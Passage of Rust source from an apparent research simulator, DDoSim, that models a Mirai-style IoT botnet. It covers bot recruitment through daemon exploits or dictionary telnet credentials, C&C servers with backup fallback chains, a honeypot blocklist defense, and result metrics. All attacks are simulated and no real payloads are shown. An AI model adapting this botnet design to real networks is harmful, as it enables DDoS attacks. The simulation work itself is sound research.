        // h = 3·0.25 = 0.75 → 1.0 + 0.75·(2.0 − 1.0).
        assert_eq!(r.time_to_infect_quantile(0.25), Some(1.75));
        assert_eq!(r.time_to_infect_quantile(0.75), Some(3.25));
        assert_eq!(r.time_to_infect_quantile(1.0), Some(4.0));
    }

    #[test]
    fn peak_rate() {
        assert_eq!(result().peak_received_kbits(), 100.0);
    }

    #[test]
    fn json_roundtrip() {
        let r = result();
        let json = r.to_json().to_string_pretty();
        let back = RunResult::from_json(&Json::parse(&json).expect("parses"))
            .expect("deserializes");
        assert_eq!(back.devs, r.devs);
        assert_eq!(back.churn, ChurnMode::Dynamic);
        assert_eq!(back.churn_summary, r.churn_summary);
        assert_eq!(back.avg_received_data_rate_kbps, r.avg_received_data_rate_kbps);
        assert_eq!(back.scanner_successes, None);
    }

    #[test]
    fn deterministic_json_excludes_host_measured_fields() {
        let j = result().to_deterministic_json();
        assert!(j.get("pre_attack_mem_gb").is_none());
        assert!(j.get("attack_mem_gb").is_none());
        assert!(j.get("attack_wall_clock_secs").is_none());
        assert!(j.get("seed").is_some());
        // Same value → same bytes, the property the cross-run test relies on.
        assert_eq!(
            result().to_deterministic_json().to_string_compact(),
            j.to_string_compact()
        );
    }
}
