//! Results of a DDoSim run.

use churn::ChurnMode;
use serde::{Deserialize, Serialize};

/// Churn telemetry of a run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChurnSummary {
    /// Devices that left the network.
    pub departures: u64,
    /// Devices that rejoined.
    pub rejoins: u64,
    /// Devices down at the end of the run.
    pub down_at_end: usize,
}

mod churn_mode_serde {
    use super::ChurnMode;
    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    pub fn serialize<S: Serializer>(mode: &ChurnMode, s: S) -> Result<S::Ok, S::Error> {
        let tag = match mode {
            ChurnMode::None => "none",
            ChurnMode::Static => "static",
            ChurnMode::Dynamic => "dynamic",
        };
        tag.serialize(s)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<ChurnMode, D::Error> {
        let tag = String::deserialize(d)?;
        match tag.as_str() {
            "none" => Ok(ChurnMode::None),
            "static" => Ok(ChurnMode::Static),
            "dynamic" => Ok(ChurnMode::Dynamic),
            other => Err(serde::de::Error::custom(format!("unknown churn mode {other}"))),
        }
    }
}

/// Everything one DDoSim run produces — the paper's measurements plus
/// internal telemetry.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RunResult {
    /// Number of Devs configured.
    pub devs: usize,
    /// Churn variant.
    #[serde(with = "churn_mode_serde")]
    pub churn: ChurnMode,
    /// Commanded attack duration (seconds).
    pub attack_duration_secs: u64,
    /// When the attack command was issued (seconds).
    pub attack_at_secs: u64,
    /// RNG seed.
    pub seed: u64,
    /// Eq. 2: the average received data rate at TServer over the attack
    /// window, in kbps.
    pub avg_received_data_rate_kbps: f64,
    /// Per-second received data rate series at TServer (kbits/s).
    pub per_second_kbits: Vec<f64>,
    /// Devs recruited (C&C-registered at least once).
    pub infected: usize,
    /// Devs recruited before the attack command.
    pub infected_before_attack: usize,
    /// Bots connected at the moment the attack command was issued.
    pub bots_at_command: usize,
    /// Infection rate (R2: the paper reports 100%).
    pub infection_rate: f64,
    /// First-infection times per Dev, in seconds (botnet growth curve).
    pub infection_times_secs: Vec<f64>,
    /// Peak simultaneous bots at the C&C.
    pub peak_bots: usize,
    /// Total C&C registrations (re-registrations after churn included).
    pub total_registrations: u64,
    /// Flood packets received by the TServer sink (by marker).
    pub flood_packets_received: u64,
    /// Flood wire bytes received by the TServer sink.
    pub flood_bytes_received: u64,
    /// Table I: pre-attack host memory (GB).
    pub pre_attack_mem_gb: f64,
    /// Table I: attack-phase host memory (GB).
    pub attack_mem_gb: f64,
    /// Table I: wall-clock seconds spent simulating the attack window.
    pub attack_wall_clock_secs: f64,
    /// Total packets handed to the network.
    pub packets_sent: u64,
    /// Total packets delivered.
    pub packets_delivered: u64,
    /// Total packets dropped (all causes).
    pub packets_dropped: u64,
    /// Churn telemetry, when churn was enabled.
    pub churn_summary: Option<ChurnSummary>,
    /// Credential-scanner baseline: devices compromised.
    pub scanner_successes: Option<usize>,
    /// Credential-scanner baseline: credential attempts.
    pub scanner_attempts: Option<u64>,
}

impl RunResult {
    /// Formats the attack wall-clock as the paper's `m:ss`.
    pub fn attack_time_m_ss(&self) -> String {
        let total = self.attack_wall_clock_secs.round() as u64;
        format!("{}:{:02}", total / 60, total % 60)
    }

    /// Average received data rate expressed in Mbps.
    pub fn avg_received_data_rate_mbps(&self) -> f64 {
        self.avg_received_data_rate_kbps / 1000.0
    }

    /// Quantile (`0.0..=1.0`) of time-to-infection among recruited Devs,
    /// in seconds; `None` if no Dev was recruited.
    ///
    /// # Panics
    ///
    /// Panics if `q` is outside `[0, 1]`.
    pub fn time_to_infect_quantile(&self, q: f64) -> Option<f64> {
        assert!((0.0..=1.0).contains(&q), "quantile out of range");
        if self.infection_times_secs.is_empty() {
            return None;
        }
        let mut times = self.infection_times_secs.clone();
        times.sort_by(f64::total_cmp);
        let idx = ((times.len() - 1) as f64 * q).round() as usize;
        Some(times[idx])
    }

    /// Peak per-second received data rate (kbits/s) over the whole run.
    pub fn peak_received_kbits(&self) -> f64 {
        self.per_second_kbits.iter().copied().fold(0.0, f64::max)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn result() -> RunResult {
        RunResult {
            devs: 10,
            churn: ChurnMode::Dynamic,
            attack_duration_secs: 100,
            attack_at_secs: 60,
            seed: 1,
            avg_received_data_rate_kbps: 2500.0,
            per_second_kbits: vec![0.0, 100.0],
            infected: 10,
            infected_before_attack: 10,
            bots_at_command: 10,
            infection_rate: 1.0,
            infection_times_secs: vec![4.5],
            peak_bots: 10,
            total_registrations: 10,
            flood_packets_received: 1000,
            flood_bytes_received: 540_000,
            pre_attack_mem_gb: 0.38,
            attack_mem_gb: 0.39,
            attack_wall_clock_secs: 123.4,
            packets_sent: 1,
            packets_delivered: 1,
            packets_dropped: 0,
            churn_summary: Some(ChurnSummary {
                departures: 2,
                rejoins: 1,
                down_at_end: 1,
            }),
            scanner_successes: None,
            scanner_attempts: None,
        }
    }

    #[test]
    fn attack_time_formats_like_the_paper() {
        assert_eq!(result().attack_time_m_ss(), "2:03");
    }

    #[test]
    fn mbps_conversion() {
        assert!((result().avg_received_data_rate_mbps() - 2.5).abs() < 1e-12);
    }

    #[test]
    fn infection_quantiles() {
        let mut r = result();
        r.infection_times_secs = vec![1.0, 2.0, 3.0, 4.0, 10.0];
        assert_eq!(r.time_to_infect_quantile(0.0), Some(1.0));
        assert_eq!(r.time_to_infect_quantile(0.5), Some(3.0));
        assert_eq!(r.time_to_infect_quantile(1.0), Some(10.0));
        r.infection_times_secs.clear();
        assert_eq!(r.time_to_infect_quantile(0.5), None);
    }

    #[test]
    fn peak_rate() {
        assert_eq!(result().peak_received_kbits(), 100.0);
    }

    #[test]
    fn serde_roundtrip() {
        let r = result();
        let json = serde_json::to_string(&r).expect("serializes");
        let back: RunResult = serde_json::from_str(&json).expect("deserializes");
        assert_eq!(back.devs, r.devs);
        assert_eq!(back.churn, ChurnMode::Dynamic);
        assert_eq!(back.churn_summary, r.churn_summary);
    }
}
