//! Honeypot nodes: the attract-and-blocklist defense.
//!
//! A honeypot is a node that looks exactly like a vulnerable Dev — it
//! answers on the telnet port and sits in the scanned address space — but
//! runs no daemon worth exploiting. Every source that touches it is, by
//! construction, scanning for victims, so the honeypot feeds that address
//! into the simulator-global blocklist
//! ([`netsim::Simulator::blocklist_insert`]). The list only bites where a
//! [`netsim::FilterRule::Blocklist`] rule is deployed (scenario defenses
//! push one onto the fabric node), so honeypots alone are a strict
//! observer.

use netsim::{Application, Category, Ctx, ForkMap, TcpEvent};
use protocols::TELNET_PORT;
use std::collections::BTreeSet;
use std::net::IpAddr;

/// The honeypot application: accepts telnet connections, records the
/// source, blocklists it, and hangs up.
#[derive(Debug, Clone, Default)]
pub struct Honeypot {
    /// Connections accepted over the honeypot's lifetime.
    pub hits: u64,
    /// Distinct source addresses observed (each is blocklisted once).
    pub unique_sources: BTreeSet<IpAddr>,
}

impl Honeypot {
    /// Creates an idle honeypot.
    pub fn new() -> Self {
        Honeypot::default()
    }
}

impl Application for Honeypot {
    fn name(&self) -> &str {
        "honeypot"
    }

    fn fork(&self, _map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(self.clone()))
    }

    fn state_digest(&self, h: &mut netsim::StateHasher) {
        h.write_u64(self.hits);
        h.write_usize(self.unique_sources.len());
        for src in &self.unique_sources {
            h.write_ip(*src);
        }
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.tcp_listen(TELNET_PORT)
            .expect("telnet port is free on a fresh honeypot node");
    }

    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, event: TcpEvent) {
        if let TcpEvent::Incoming { conn, from } = event {
            self.hits += 1;
            let src = from.ip();
            if self.unique_sources.insert(src) {
                ctx.sim().blocklist_insert(src);
                ctx.record_event(Category::Honeypot, || {
                    format!("honeypot trapped scanner {src}; source blocklisted")
                });
            }
            ctx.tcp_close(conn);
        }
    }
}
