//! Assembly and execution of one DDoSim run: the Attacker, Devs, and
//! TServer components wired over the simulated network (Fig. 1 of the
//! paper).

use crate::checkpoint::{self, Checkpoint};
use crate::config::{BinaryMix, DaemonKind, Recruitment, SimulationConfig};
use crate::metrics::{bytes_to_gb, MemoryModel, TServerSink};
use crate::result::{ChurnSummary, RunResult};
use attacker::{Dhcpv6Injector, ExploitForge, FileServer, MaliciousDnsServer};
use churn::{ChurnController, ChurnMode, FanChurnModel};
use firmware::{
    CommandSet, ContainerHandle, ContainerRuntime, DnsProxyDaemon, FileEntry, FileKind,
    FsTemplateStore, NetMgrDaemon, ServiceCore,
};
use malware::{AdminConsole, CncServer, TelnetScanner, TelnetService};
use crate::config::TopologyKind;
use netsim::topology::{StarMember, StarTopology, TieredTopology, WifiTopology};
use netsim::{
    AppId, Category, ForkClone, ForkMap, LinkConfig, LinkId, NodeId, SimTime, Simulator,
    Telemetry, TraceKind, TraceRecord, WifiConfig,
};
use telemetry::CaptureRecord;
use protocols::{mirai_dictionary, Credential, DNS_PORT};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tinyvm::catalog;

/// Base image bytes of a Dev container (OS layers + busybox), excluding the
/// daemon binary. Calibrated so total per-Dev memory lands in the paper's
/// ≈8.5 MB/Dev regime (Table I).
pub const DEV_IMAGE_BASE_BYTES: u64 = 6_500_000;

/// Image bytes of the Attacker container (C&C, Apache, exploit tooling).
pub const ATTACKER_IMAGE_BYTES: u64 = 60_000_000;

// Per-subsystem layer tags folded into a fork's re-derived RNG seeds
// (`sim_seed ^ fork_seed ^ TAG`): distinct tags keep the event-time and
// fault streams decorrelated from each other and from the parent.
const FORK_TAG_MAIN: u64 = 0xF0_8C01;
const FORK_TAG_FAULT: u64 = 0xF0_8C02;

/// One Dev's identity and configuration within a run.
#[derive(Debug, Clone)]
pub struct DevInfo {
    /// The Dev's ghost node.
    pub node: NodeId,
    /// IPv4 address.
    pub addr_v4: IpAddr,
    /// IPv6 address.
    pub addr_v6: IpAddr,
    /// Which daemon the Dev runs.
    pub daemon: DaemonKind,
    /// Memory protections of the daemon process.
    pub protections: tinyvm::Protections,
    /// Access-link rate in kbps.
    pub access_rate_kbps: u64,
    /// The Dev's container.
    pub container: ContainerHandle,
    /// The daemon application.
    pub daemon_app: AppId,
}

/// Converts a netsim trace record into a telemetry capture record (the
/// pcap-row shape the capture sink stores and filters on).
fn capture_record(rec: &TraceRecord) -> CaptureRecord {
    CaptureRecord {
        time_nanos: rec.time.as_nanos(),
        kind: match rec.kind {
            TraceKind::Sent => "sent".to_owned(),
            TraceKind::Delivered => "delivered".to_owned(),
            TraceKind::Forwarded => "forwarded".to_owned(),
            TraceKind::Dropped(reason) => format!("dropped:{}", reason.as_str()),
        },
        node: rec.node.index() as u32,
        packet_id: rec.packet_id,
        src: rec.src,
        dst: rec.dst,
        proto: rec.proto.to_string(),
        wire_bytes: rec.wire_bytes,
    }
}

/// State threaded through the self-rescheduling metrics sampler. The
/// telemetry handle is read off the simulator at each tick (not stored
/// here) so a forked world samples into *its* recorder, not the parent's.
struct SamplerState {
    interval: Duration,
    horizon: SimTime,
    tserver: NodeId,
    devs: Vec<ContainerHandle>,
    prev_sent: u64,
    prev_rx_bytes: u64,
}

impl ForkClone for SamplerState {
    fn fork_clone(&self, map: &ForkMap) -> Self {
        SamplerState {
            interval: self.interval,
            horizon: self.horizon,
            tserver: self.tserver,
            devs: self.devs.fork_clone(map),
            prev_sent: self.prev_sent,
            prev_rx_bytes: self.prev_rx_bytes,
        }
    }
}

/// One metrics sample: fixed-interval bins of per-run rates and gauges
/// (the series Fig. 2/Fig. 3 style plots can bin directly).
fn sample_tick(sim: &mut Simulator, mut st: SamplerState) {
    let sent = sim.stats().packets_sent;
    let rx_bytes = sim.node(st.tserver).rx_bytes();
    let buffered = sim.buffered_bytes();
    let tserver_queue = sim.node_link_buffered_bytes(st.tserver);
    let bots = st.devs.iter().filter(|c| c.bot_alive()).count();
    let infected = st.devs.iter().filter(|c| c.is_infected()).count();
    sim.telemetry().with_metrics(|set| {
        set.series_mut("tx_packets").push((sent - st.prev_sent) as f64);
        set.series_mut("tserver_rx_bytes").push((rx_bytes - st.prev_rx_bytes) as f64);
        set.series_mut("buffered_bytes").push(buffered as f64);
        set.series_mut("tserver_queue_bytes").push(tserver_queue as f64);
        set.series_mut("bot_population").push(bots as f64);
        set.series_mut("infected_devices").push(infected as f64);
    });
    st.prev_sent = sent;
    st.prev_rx_bytes = rx_bytes;
    if sim.now() + st.interval <= st.horizon {
        let iv = st.interval;
        sim.schedule_forkable_call_after(iv, "metrics.sample", st, sample_tick);
    }
}

/// Records a planned fault firing in the flight recorder.
fn record_fault(sim: &Simulator, node: NodeId, detail: String) {
    let now = sim.now().as_nanos();
    sim.telemetry()
        .record_event(now, Some(node.index() as u32), Category::Fault, || detail);
}

// Fault-plan handlers: plain `fn` pointers over ForkClone data (instead of
// opaque closures) so pending faults survive `Ddosim::fork`.

fn fault_link_admin(sim: &mut Simulator, data: (NodeId, Vec<LinkId>, bool, String)) {
    let (node_id, links, up, detail) = data;
    record_fault(sim, node_id, detail);
    for link in links {
        sim.set_link_admin(link, up);
    }
}

fn fault_link_loss(sim: &mut Simulator, data: (NodeId, Vec<LinkId>, f64, String)) {
    let (node_id, links, p, detail) = data;
    record_fault(sim, node_id, detail);
    for link in links {
        sim.set_link_loss(link, p);
    }
}

fn fault_node_crash(sim: &mut Simulator, data: (NodeId, Option<ContainerHandle>, String)) {
    let (node_id, container, detail) = data;
    record_fault(sim, node_id, detail);
    // Power off first: a hard crash is silent on the wire, so the node
    // must be down (stack reset) before app removal, or removal would FIN
    // the bot's C&C connection like a graceful exit.
    sim.set_node_admin(node_id, false);
    if let Some(c) = &container {
        for app in c.reboot(sim.now(), &crate::reboot::DAEMON_NAMES) {
            sim.remove_app(app);
        }
    }
}

fn fault_node_restore(sim: &mut Simulator, data: (NodeId, String)) {
    let (node_id, detail) = data;
    record_fault(sim, node_id, detail);
    sim.set_node_admin(node_id, true);
}

fn fault_cnc_outage(sim: &mut Simulator, data: (NodeId, Option<Duration>, String)) {
    let (node_id, duration, detail) = data;
    record_fault(sim, node_id, detail);
    sim.set_node_admin(node_id, false);
    if let Some(d) = duration {
        sim.schedule_forkable_call_after(d, "fault.cnc_outage_end", node_id, fault_cnc_outage_end);
    }
}

fn fault_cnc_outage_end(sim: &mut Simulator, node_id: NodeId) {
    record_fault(
        sim,
        node_id,
        "cnc_outage ended (attacker host restarts)".to_owned(),
    );
    sim.set_node_admin(node_id, true);
}

fn fault_container_kill(sim: &mut Simulator, data: (NodeId, ContainerHandle, String)) {
    let (node_id, container, detail) = data;
    record_fault(sim, node_id, detail);
    for app in container.reboot(sim.now(), &crate::reboot::DAEMON_NAMES) {
        sim.remove_app(app);
    }
}

/// The attacker-operator reconciliation tick: devices whose bot is gone
/// get their "exploited" marks cleared so the exploit exchange restarts.
fn reconcile_tick(
    sim: &mut Simulator,
    data: (AppId, AppId, Vec<(ContainerHandle, IpAddr, IpAddr)>),
) {
    let (dns, dhcp, devs) = data;
    for (container, v4, v6) in &devs {
        if !container.bot_alive() {
            if let Some(srv) = sim.app_mut::<MaliciousDnsServer>(dns) {
                srv.forget(*v4);
            }
            if let Some(inj) = sim.app_mut::<Dhcpv6Injector>(dhcp) {
                inj.forget(*v6);
            }
        }
    }
}

/// The simulated-Internet fabric a run was built on.
#[derive(Debug, Clone)]
enum Fabric {
    Star(StarTopology),
    Tiered(TieredTopology),
    Wifi(WifiTopology),
}

impl Fabric {
    /// The always-up root node (defense deployment point, controller host).
    fn root(&self) -> NodeId {
        match self {
            Fabric::Star(s) => s.fabric(),
            Fabric::Tiered(t) => t.backbone(),
            Fabric::Wifi(w) => w.root(),
        }
    }

    /// Attaches a core component (Attacker, TServer, extra clients).
    fn attach_core(&mut self, sim: &mut Simulator, node: NodeId, cfg: LinkConfig) -> StarMember {
        match self {
            Fabric::Star(s) => s.attach(sim, node, cfg),
            Fabric::Tiered(t) => t.attach_backbone(sim, node, cfg),
            Fabric::Wifi(w) => w.attach_wired(sim, node, cfg),
        }
    }

    /// Attaches the `index`-th Dev.
    fn attach_dev(
        &mut self,
        sim: &mut Simulator,
        index: usize,
        node: NodeId,
        cfg: LinkConfig,
    ) -> StarMember {
        match self {
            Fabric::Star(s) => s.attach(sim, node, cfg),
            Fabric::Tiered(t) => t.attach_region(sim, index, node, cfg),
            // Devs associate to the router over the shared medium, shaped
            // to their IoT access rate (the paper's lab setup, §IV-B).
            Fabric::Wifi(w) => w.attach_station(sim, node, cfg.rate_bps),
        }
    }
}

/// Snapshot taken when the run crosses the attack start (Table I's
/// pre-attack column and the §IV-B infection counters).
#[derive(Debug, Clone, Copy)]
struct PreAttackSnapshot {
    container_bytes: u64,
    packets: u64,
    infected: usize,
    bots: usize,
}

/// Snapshot taken when the run crosses the attack end.
#[derive(Debug, Clone, Copy)]
struct AttackSnapshot {
    container_bytes: u64,
    /// Packets sent during the attack window.
    packets: u64,
}

/// Resumable phase-walk bookkeeping: which phase boundaries have been
/// crossed (marks emitted, measurements taken). `Copy`, so a fork carries
/// its parent's progress and the continuation emits exactly the marks a
/// straight-through run would — no double marks, none missing.
#[derive(Debug, Clone, Copy, Default)]
struct PhaseProgress {
    init_marked: bool,
    pre_attack: Option<PreAttackSnapshot>,
    attack: Option<AttackSnapshot>,
    /// Wall-clock accumulated inside the attack window (split across
    /// prefix and suffix when a fork lands mid-window).
    attack_wall: Duration,
    complete: bool,
}

/// A fully-assembled DDoSim instance (Attacker + Devs + TServer on the
/// simulated network), ready to run.
#[derive(Debug)]
pub struct Ddosim {
    config: SimulationConfig,
    sim: Simulator,
    runtime: ContainerRuntime,
    devs: Vec<DevInfo>,
    attacker_node: NodeId,
    attacker_v4: IpAddr,
    attacker_container: ContainerHandle,
    tserver_node: NodeId,
    tserver_v4: IpAddr,
    sink: AppId,
    cnc: AppId,
    dns_server: Option<AppId>,
    dhcp_injector: Option<AppId>,
    scanner: Option<AppId>,
    churn_ctl: Option<AppId>,
    honeypots: Vec<(NodeId, AppId, IpAddr)>,
    backup_cncs: Vec<(NodeId, AppId, SocketAddr)>,
    memory_model: MemoryModel,
    fabric: Fabric,
    checkpoint_at: Option<Duration>,
    resume: Option<Checkpoint>,
    saved_checkpoint: Option<Checkpoint>,
    progress: PhaseProgress,
}

impl Ddosim {
    /// Builds the instance from a validated configuration.
    ///
    /// # Errors
    ///
    /// Returns a message if the configuration is invalid.
    pub fn new(config: SimulationConfig) -> Result<Self, String> {
        Self::build(config, false)
    }

    /// Rebuilds a checkpointed run so it can continue from the snapshot.
    ///
    /// The world is reconstructed from the configuration embedded in the
    /// checkpoint and silently replayed up to the snapshot time on the
    /// next [`Ddosim::try_run_to_completion`] (telemetry suppressed, so
    /// the flight recorder splices cleanly onto the prefix the original
    /// run already wrote). At the snapshot time every layer's state digest
    /// is verified against the checkpoint before the run continues.
    ///
    /// # Errors
    ///
    /// Returns a message if the embedded configuration fails validation.
    pub fn resume_from(cp: Checkpoint) -> Result<Self, String> {
        let mut instance = Self::build(cp.config.clone(), true)?;
        instance.resume = Some(cp);
        Ok(instance)
    }

    /// Arms a checkpoint: when the run next crosses `at` (clamped forward
    /// to the enclosing phase boundary's `advance` call), the full world
    /// state is digested and a [`Checkpoint`] is produced alongside the
    /// run result.
    pub fn set_checkpoint_at(&mut self, at: Duration) {
        self.checkpoint_at = Some(at);
    }

    /// Builds the world. `suppressed` arms telemetry suppression *before*
    /// construction records anything (container starts are recorded at
    /// t = 0), which is what a resumed run needs for its silent replay.
    fn build(config: SimulationConfig, suppressed: bool) -> Result<Self, String> {
        config.validate()?;
        let mut sim = Simulator::new(config.rng.event_seed(config.seed));
        let telemetry = Telemetry::from_config(&config.telemetry);
        if suppressed {
            telemetry.set_suppressed(true);
        }
        sim.set_telemetry(telemetry.clone());
        if telemetry.captures_packets() {
            let hook = telemetry.clone();
            sim.set_trace(Box::new(move |rec: &TraceRecord| {
                hook.capture_packet(|| capture_record(rec));
            }));
        }
        // Separate construction RNG: keeps topology sampling independent of
        // the event-time RNG stream (same seed → same world). The RngPlan
        // can pin this stream so CRN-paired configs build identical worlds.
        let mut build_rng = SmallRng::seed_from_u64(config.rng.world_seed(config.seed));
        let mut fabric = match config.topology {
            TopologyKind::Star => Fabric::Star(StarTopology::new(&mut sim, "internet")),
            TopologyKind::Tiered {
                regions,
                region_uplink_bps,
            } => Fabric::Tiered(TieredTopology::new(
                &mut sim,
                "internet",
                regions,
                LinkConfig::new(region_uplink_bps, Duration::from_millis(5))
                    .with_queue_capacity(256 * 1024),
            )),
            TopologyKind::Wifi => Fabric::Wifi(WifiTopology::new(
                &mut sim,
                "router",
                WifiConfig::default(),
            )),
        };
        let mut runtime = ContainerRuntime::new();

        // ---- Attacker (component 1) ----
        let attacker_node = sim.add_node("attacker");
        let attacker_m = fabric.attach_core(
            &mut sim,
            attacker_node,
            LinkConfig::new(100_000_000, Duration::from_millis(5))
                .with_queue_capacity(1 << 20),
        );
        let attacker_container = runtime.create(
            "attacker",
            config.arch,
            attacker_node,
            CommandSet::standard(),
            ATTACKER_IMAGE_BYTES,
        );
        attacker_container.register_proc("cnc", None, vec![protocols::CNC_PORT]);
        attacker_container.register_proc("apache2", None, vec![protocols::HTTP_PORT]);
        telemetry.record_event(0, Some(attacker_node.index() as u32), Category::ContainerStart, || {
            format!(
                "container attacker ({}) started, image {ATTACKER_IMAGE_BYTES}B",
                config.arch.suffix()
            )
        });

        // ---- TServer (component 3) ----
        let tserver_node = sim.add_node("tserver");
        let tserver_m = fabric.attach_core(
            &mut sim,
            tserver_node,
            LinkConfig::new(config.tserver_link_bps, Duration::from_millis(2))
                .with_queue_capacity(config.tserver_queue_bytes),
        );
        let sink = sim.install_app(
            tserver_node,
            Box::new(TServerSink::new(config.attack.port)),
        );

        // ---- Attacker services ----
        // The C&C starts now; the file server and exploit/scanner apps are
        // installed after the Devs exist, because the served bot binaries
        // may embed the subnet map (worm mode).
        let cnc = sim.install_app(attacker_node, Box::new(CncServer::new()));
        let cnc_addr = SocketAddr::new(attacker_m.addr_v4, protocols::CNC_PORT);
        let stage1 = malware::stage1_command(attacker_m.addr_v4);

        // ---- Backup C&C hosts (takedown resilience) ----
        // Created before the file server so their addresses can be
        // compiled into the served binaries as the fallback chain.
        let mut backup_cncs = Vec::with_capacity(usize::from(config.backup_cncs));
        for i in 0..usize::from(config.backup_cncs) {
            let node = sim.add_node(format!("cnc-backup-{i}"));
            let member = fabric.attach_core(
                &mut sim,
                node,
                LinkConfig::new(100_000_000, Duration::from_millis(5))
                    .with_queue_capacity(1 << 20),
            );
            let app = sim.install_app(node, Box::new(CncServer::new()));
            let addr = SocketAddr::new(member.addr_v4, protocols::CNC_PORT);
            telemetry.record_event(0, Some(node.index() as u32), Category::CncRegister, || {
                format!("backup C&C {i} standing by at {addr}")
            });
            backup_cncs.push((node, app, addr));
        }
        let fallback_chain: Vec<SocketAddr> =
            backup_cncs.iter().map(|&(_, _, addr)| addr).collect();

        // ---- Devs (component 2) ----
        let mut devs = Vec::with_capacity(config.devs);
        let connman_image = Arc::new(catalog::connman_image(config.arch));
        let dnsmasq_image = Arc::new(catalog::dnsmasq_image(config.arch));
        // Every dev built from the same firmware image shares one
        // content-addressed filesystem template (the daemon binary under
        // /usr/sbin); per-device filesystems are copy-on-write overlays.
        // The daemon binary's bytes are charged through the filesystem, so
        // per-container accounting is unchanged — only the storage is
        // deduplicated.
        let mut fs_templates = FsTemplateStore::new();
        let daemon_template = |store: &mut FsTemplateStore, image: &tinyvm::BinaryImage| {
            store.intern(std::collections::BTreeMap::from([(
                format!("/usr/sbin/{}", image.name),
                FileEntry {
                    kind: FileKind::Data,
                    size_bytes: image.size_bytes,
                    executable: true,
                },
            )]))
        };
        let connman_template = daemon_template(&mut fs_templates, &connman_image);
        let dnsmasq_template = daemon_template(&mut fs_templates, &dnsmasq_image);
        let mut telnet_targets = Vec::new();
        for i in 0..config.devs {
            let node = sim.add_node(format!("dev-{i}"));
            let rate_kbps = build_rng
                .gen_range(*config.access_rate_kbps.start()..=*config.access_rate_kbps.end());
            let member = fabric.attach_dev(
                &mut sim,
                i,
                node,
                LinkConfig::new(rate_kbps * 1000, config.access_delay),
            );
            let daemon = match config.binary_mix {
                BinaryMix::ConnmanOnly => DaemonKind::Connman,
                BinaryMix::DnsmasqOnly => DaemonKind::Dnsmasq,
                BinaryMix::Mixed { connman_fraction } => {
                    if build_rng.gen_bool(connman_fraction.clamp(0.0, 1.0)) {
                        DaemonKind::Connman
                    } else {
                        DaemonKind::Dnsmasq
                    }
                }
            };
            let protections = config.protections.sample(&mut build_rng);
            let image = match daemon {
                DaemonKind::Connman => Arc::clone(&connman_image),
                DaemonKind::Dnsmasq => Arc::clone(&dnsmasq_image),
            };
            let template = match daemon {
                DaemonKind::Connman => Arc::clone(&connman_template),
                DaemonKind::Dnsmasq => Arc::clone(&dnsmasq_template),
            };
            let container = runtime.create_from_template(
                format!("dev-{i}"),
                config.arch,
                node,
                config.commands.clone(),
                DEV_IMAGE_BASE_BYTES,
                template,
            );
            // Reported image size still counts the daemon binary (it now
            // lives in the shared filesystem template).
            let image_bytes = DEV_IMAGE_BASE_BYTES + image.size_bytes;
            telemetry.record_event(0, Some(node.index() as u32), Category::ContainerStart, || {
                format!(
                    "container dev-{i} ({}, {daemon:?}) started, image {image_bytes}B",
                    config.arch.suffix()
                )
            });
            let core = ServiceCore::new(
                container.clone(),
                Arc::clone(&image),
                protections,
                image.name.clone(),
                &mut build_rng,
            );
            let daemon_app = match daemon {
                DaemonKind::Connman => sim.install_app(
                    node,
                    Box::new(NetMgrDaemon::new(
                        core,
                        SocketAddr::new(attacker_m.addr_v4, DNS_PORT),
                        Duration::from_secs(5),
                    )),
                ),
                DaemonKind::Dnsmasq => {
                    sim.install_app(node, Box::new(DnsProxyDaemon::new(core)))
                }
            };
            // Baseline / worm recruitment: Devs expose telnet, a fraction
            // with dictionary credentials.
            let cred_fraction = match config.recruitment {
                Recruitment::CredentialScanner {
                    default_credential_fraction,
                }
                | Recruitment::SelfPropagating {
                    default_credential_fraction,
                    ..
                } => Some(default_credential_fraction),
                Recruitment::MemoryError => None,
            };
            if let Some(fraction) = cred_fraction {
                let dictionary = mirai_dictionary();
                let credential: Option<Credential> =
                    if build_rng.gen_bool(fraction.clamp(0.0, 1.0)) {
                        let i = build_rng.gen_range(0..dictionary.len());
                        Some(dictionary[i].clone())
                    } else {
                        None
                    };
                sim.install_app(
                    node,
                    Box::new(TelnetService::new(container.clone(), credential)),
                );
                telnet_targets.push(member.addr_v4);
            }
            devs.push(DevInfo {
                node,
                addr_v4: member.addr_v4,
                addr_v6: member.addr_v6,
                daemon,
                protections,
                access_rate_kbps: rate_kbps,
                container,
                daemon_app,
            });
        }

        // ---- Honeypots (defense: attract-and-blocklist) ----
        // Attached after the Devs so they never displace worm seed targets;
        // the fixed link config draws nothing from `build_rng`, keeping
        // `honeypots = 0` worlds bit-identical to pre-honeypot builds.
        let mut honeypots = Vec::with_capacity(usize::from(config.honeypots));
        for i in 0..usize::from(config.honeypots) {
            let node = sim.add_node(format!("honeypot-{i}"));
            let member = fabric.attach_dev(
                &mut sim,
                config.devs + i,
                node,
                LinkConfig::new(500_000, config.access_delay),
            );
            let app = sim.install_app(node, Box::new(crate::honeypot::Honeypot::new()));
            telemetry.record_event(0, Some(node.index() as u32), Category::Honeypot, || {
                format!("honeypot-{i} deployed at {}", member.addr_v4)
            });
            telnet_targets.push(member.addr_v4);
            honeypots.push((node, app, member.addr_v4));
        }

        // ---- File server: infection script + per-arch bot binaries ----
        let propagation = match config.recruitment {
            Recruitment::SelfPropagating { .. } => Some(malware::PropagationConfig {
                targets: Arc::new(
                    devs.iter()
                        .map(|d| d.addr_v4)
                        .chain(honeypots.iter().map(|&(_, _, addr)| addr))
                        .collect(),
                ),
                dictionary: mirai_dictionary(),
                payload_command: stage1.clone(),
            }),
            _ => None,
        };
        let mut served = vec![malware::infection_script(attacker_m.addr_v4)];
        for arch in [tinyvm::Arch::X86_64, tinyvm::Arch::Arm7, tinyvm::Arch::Mips] {
            served.push(malware::mirai_binary_file_with_fallbacks(
                arch,
                cnc_addr,
                fallback_chain.clone(),
                config.flood_rate_bps,
                config.attack_ramp,
                propagation.clone(),
            ));
        }
        sim.install_app(attacker_node, Box::new(FileServer::new(served)));

